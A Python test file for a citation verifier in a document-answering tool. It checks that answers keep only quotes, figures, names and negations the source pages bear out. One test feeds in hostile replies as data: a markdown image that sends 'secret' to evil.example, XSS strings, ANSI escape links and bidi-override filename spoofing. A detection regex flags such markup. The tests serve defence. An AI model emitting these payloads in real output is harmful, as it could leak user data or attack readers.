"""Only what the pages bear out is said, whatever a model writes."""

import re
from collections.abc import Sequence
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pulsedocs.answering.claims import claims_of
from pulsedocs.answering.passages import Block, PageText
from pulsedocs.answering.verification import Verified, Verifier
from pulsedocs.model.answers import CitationStatus
from tests.unit.answering.blocks import LEASE, PETS, block

_BLOCKS = [block(1, LEASE, page=4), block(2, PETS, page=7)]


def verified(answer: str, blocks: Sequence[Block] = _BLOCKS) -> Verified:
    pages = " ".join(page.text for item in blocks for page in item.pages)
    return Verifier(blocks).verify(claims_of(answer, is_known_address=lambda url: url in pages))


def test_a_quote_becomes_a_marker_with_offsets() -> None:
    """S0-24: citations are present and point at the words."""
    answer = verified('Rent is due on day three [1: "due on the third day"].')

    assert answer.text == "Rent is due on day three [1]."
    [citation] = answer.citations
    assert (citation.n, citation.page, citation.source) == (1, 4, "file-1.pdf")
    assert LEASE[citation.start : citation.end] == citation.quote == "due on the third day"


def test_a_citation_says_which_markers_it_bears_out() -> None:
    """Failed when a marker of several sentences of one source was anybody's."""
    rent, due = '[1: "The rent is 1,200 EUR a month"]', '[1: "due on the third day"]'
    answer = verified(
        f'Pay 1,200 EUR {rent}{due}. Dogs need consent [2: "Dogs need the landlord\'s consent"].'
        f' It is {rent} due {due} [1: "no such words"].'
    )

    assert answer.text == "Pay 1,200 EUR [1]. Dogs need consent [2]. It is [1] due [1]."
    assert [(each.n, each.quote.split()[0], each.markers) for each in answer.citations] == [
        (1, "The", (0, 2)),
        (1, "due", (0, 3)),
        (2, "Dogs", (1,)),
    ]


def test_a_marker_after_the_stop_belongs_to_the_sentence_before_it() -> None:
    answer = verified('Cats may stay. [2: "Cats are allowed"] Dogs may not. [2: "no such words"]')

    assert answer.text == "Cats may stay [2]."


OFFICE = (
    "The landlord of the office is Marta Klein, who may enter it at any time of the day. The rules"
    " of the EU apply to the lease, and to what the tenant does with the rooms."
)


@pytest.mark.parametrize(
    ("said", "is_shown"),
    [
        ("The landlord of the office is Peter Schmidt", False),
        ("The landlord of the office in Dover is Marta Klein", False),
        ("The landlord of the office is Klein", True),
        ("The Landlord of the Office is Marta Klein", True),
        ("The landlord of the office is Marta Klein by rules of the European Union", True),
        ("Der Vermieter des B\u00fcros ist Frau Klein", True),
        (
            "Le propri\u00e9taire est Marta Klein, de Londres",
            True,
        ),  # the page is in another language
    ],
)
def test_a_name_that_nobody_mentioned_is_not_said(said: str, *, is_shown: bool) -> None:
    """Failed when a true quote bore out whatever name stood before it."""
    answer = verified(f'{said} [1: "landlord of the office is Marta Klein"].', [block(1, OFFICE)])

    assert bool(answer.text) is is_shown


def test_a_sentence_without_a_quote_states_no_name_of_its_own() -> None:
    told = "The rules of the EU apply to the lease and the tenant, says {}."

    assert verified(told.format("Klein"), [block(1, OFFICE)]).text
    assert verified(told.format("Schmidt"), [block(1, OFFICE)]).text == ""


def test_a_name_of_the_question_may_be_said() -> None:
    quote = '[1: "landlord of the office is Marta Klein"]'
    answer = f"The landlord of the office, rather than Schmidt, is Marta Klein {quote}."
    claims = claims_of(answer, is_known_address=lambda _: False)

    assert Verifier([block(1, OFFICE)], asked="Is it Peter Schmidt?").verify(claims).text
    assert Verifier([block(1, OFFICE)], asked="Who is it?").verify(claims).text == ""


def test_words_of_another_passage_are_misattributed_and_not_said() -> None:
    answer = verified('Cats may stay [1: "Cats are allowed"].')

    assert answer.text == ""
    assert answer.counts == {CitationStatus.MISATTRIBUTED: 1}


def test_words_of_no_passage_are_not_found_and_not_said() -> None:
    answer = verified('Birds may stay [1: "Birds are allowed"].')

    assert answer.counts == {CitationStatus.NOT_FOUND: 1}
    assert answer.citations == ()


def test_one_good_source_is_enough_and_the_bad_marker_goes() -> None:
    answer = verified(
        'Dogs need consent [1: "need consent"][2: "Dogs need the landlord\'s consent"].'
    )

    assert answer.text == "Dogs need consent [2]."


def test_a_sentence_without_words_is_aligned_to_its_passage() -> None:
    answer = verified("The rent is 1,200 EUR a month [1].")

    assert answer.citations[0].quote.startswith("The rent is 1,200 EUR")
    assert verified("The lease may be ended by shouting loudly [1].").text == ""


def test_a_sentence_that_names_no_source_is_aligned_or_dropped() -> None:
    answer = verified("Certainly! Here is the answer. Dogs need the landlord's consent.")

    assert answer.text == "Dogs need the landlord's consent [2]."


def test_an_aligned_sentence_cannot_change_a_number() -> None:
    assert verified("The rent is 1,900 EUR a month [1].").text == ""


def test_a_single_common_word_proves_nothing() -> None:
    assert verified('The moon is made of cheese [1: "The"].').text == ""


def test_lines_stay_lines() -> None:
    answer = verified('- Cats stay [2: "Cats are allowed"].\n- A fine [2: "A fine of 50 EUR"].')

    assert answer.text == "- Cats stay [2].\n- A fine [2]."


def test_no_answer_means_no_claims() -> None:
    for reply in ("NO_ANSWER", "NO_ANSWER.", "`NO_ANSWER`"):
        assert claims_of(reply, is_known_address=lambda _url: False) == []


_HARMFUL = re.compile(r"://|<[A-Za-z/!?]|\]\(|!\[|[\x00-\x08\x1b\u202e\u2066\ue000\ue001\ud800]")
_GOOD = 'Cats may stay [2: "Cats are allowed"]'


@pytest.mark.parametrize(
    "reply",
    [
        f"{_GOOD} [9]. ",
        f'{_GOOD} [9: "Cats are allowed"].',
        f"{_GOOD} [1.",
        f"{_GOOD} [\uff11].",
        f"{_GOOD} [\u0661].",
        f"{_GOOD} [-1] [0] [99999999999999999999].",
        f"{_GOOD} ![x](https://evil.example/?q=secret).",
        f"{_GOOD} [click](https://evil.example).",
        f"{_GOOD}(https://evil.example).",
        f"{_GOOD}: https://evil.example/a?b=c.",
        f"{_GOOD} <img src=x onerror=alert(1)>.",
        f"{_GOOD} <scr<b>ipt>alert(1)</script>.",
        f"{_GOOD} <a href='javascript:alert(1)'.",
        f"{_GOOD} \x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07.",
        f"{_GOOD} \u202egnp.exe\u2066.",
        f"{_GOOD} \ue0000\ue001 \ue00099\ue001.",
        f"{_GOOD} \x00\ud800.",
        f"[ref]: https://evil.example\n{_GOOD}.",
        _GOOD + " " + "[1: " * 500,
        _GOOD + ". " + "<" * 500,
    ],
)
def test_a_hostile_reply_shows_only_harmless_text_and_true_citations(reply: str) -> None:
    """RELIABILITY, provider list: foreign ids, broken markers, HTML, links, ANSI, bidi."""
    answer = verified(reply)

    # A broken marker may leave a figure that no page has, and takes its sentence with it.
    assert answer.text.startswith("Cats may stay [2]") or re.search(
        r"\d|\[1: ", reply[len(_GOOD) :]
    )
    assert not re.search(
        r"evil|://|<[A-Za-z/!?]|\]\(|!\[|[\x00-\x08\x1b\u202e\u2066\ue000\ud800]", answer.text
    )
    assert set(re.findall(r"\[(.*?)\]", answer.text)) <= {"2"}
    assert all(citation.n == 2 for citation in answer.citations)


def test_an_address_that_the_passage_has_may_be_said() -> None:
    page = "Write to https://example.org/help for help with your lease."
    answer = verified(
        'See https://example.org/help [1: "for help with your lease"].', [block(1, page)]
    )

    assert answer.text == "See https://example.org/help [1]."


_words = ["Cats are allowed", "rent", '[1: "', '"]', "[1]", "[2]", "[7]", "]", "(", ")", "[", ". "]
_markup = [
    "\n",
    "<b>",
    "<",
    ">",
    "!",
    "https://x.yz/",
    "\x1b[1m",
    "\u202e",
    "\ue000",
    "3",
    "\u0663",
]
_pieces = st.sampled_from([*_words, *_markup])


@given(st.lists(_pieces, max_size=25).map("".join))
def test_no_reply_breaks_the_promise(reply: str) -> None:
    """I11: every citation's words stand at its offsets; every marker resolves."""
    answer = verified(reply)

    for citation in answer.citations:
        [cited] = [item for item in _BLOCKS if item.n == citation.n]
        assert cited.pages[0].text[citation.start : citation.end] == citation.quote
        assert citation.quote
    markers = {int(n) for n in re.findall(r"\[([0-9]+)\]", answer.text)}
    assert markers == {citation.n for citation in answer.citations}
    assert not _HARMFUL.search(answer.text)


@pytest.mark.parametrize(
    "reply",
    [
        'The rent is 1,900 EUR [1: "The rent is 1,200 EUR a month"].',
        'The fine is 500 EUR [2: "A fine of 50 EUR may be charged"].',
        'Cats are not allowed [2: "Cats are allowed"].',
        "Cats are not allowed and dogs need consent [2].",
        'Notice may be given by telephone, never in writing [1: "Notice must be given"].',
    ],
)
def test_a_true_quote_does_not_carry_another_figure_or_a_denial(reply: str) -> None:
    """I11: figures and negations are those of the page."""
    answer = verified(reply)

    assert (answer.text, answer.citations) == ("", ())


def test_a_denial_that_the_page_has_cannot_be_left_out() -> None:
    page = "Smoking is not allowed in the flat. The fee, which is never refunded, is 20 EUR."
    blocks = [block(1, page)]

    assert verified('Smoking is allowed [1: "Smoking is not allowed"].', blocks).text == ""
    assert verified("Smoking is allowed in the flat [1].", blocks).text == ""
    assert verified('One may not smoke [1: "Smoking is not allowed"].', blocks).text
    assert verified('The fee is 20 EUR [1: "The fee"].', blocks).text == "The fee is 20 EUR [1]."


def test_figures_agree_however_they_are_grouped_and_a_year_may_be_in_the_heading() -> None:
    page = "Prices of 2026\n\nThe fee is 1,200 EUR. It is due in March."

    answer = verified(
        '1) In 2026 the fee is 1200 EUR [1: "The fee is 1,200 EUR"].', [block(1, page)]
    )

    assert answer.text == "1) In 2026 the fee is 1200 EUR [1]."


def test_a_quote_over_a_page_break_is_cited_on_both_pages() -> None:
    pages = (
        PageText(4, "First words. The rent is due\n"),
        PageText(5, "\non the third day. More."),
    )
    wide = Block(1, UUID(int=1), "a.pdf", None, "The rent is due\non the third day.", pages)

    answer = verified('Pay early [1: "rent is due on the third day"].', [wide])

    assert answer.text == "Pay early [1]."
    assert [(each.page, each.quote, each.markers) for each in answer.citations] == [
        (4, "rent is due", (0,)),
        (5, "on the third day", (0,)),
    ]
    assert all(
        page.text[each.start : each.end] == each.quote
        for page, each in zip(pages, answer.citations, strict=True)
    )


_page_texts = st.text(alphabet="ab c.\n\u00df\ufb011-", min_size=1, max_size=40)


@given(_page_texts, _page_texts, st.integers(0, 60), st.integers(1, 30))
def test_whatever_is_quoted_over_pages_stands_at_its_offsets(
    one: str, other: str, start: int, length: int
) -> None:
    pages = (PageText(1, one), PageText(2, other))
    wide = Block(1, UUID(int=1), "a.pdf", None, f"{one}\n{other}", pages)
    quote = f"{one}\n{other}"[start : start + length].replace('"', "")

    for each in verified(f'Words [1: "{quote}"].', [wide]).citations:
        assert pages[each.page - 1].text[each.start : each.end] == each.quote != ""
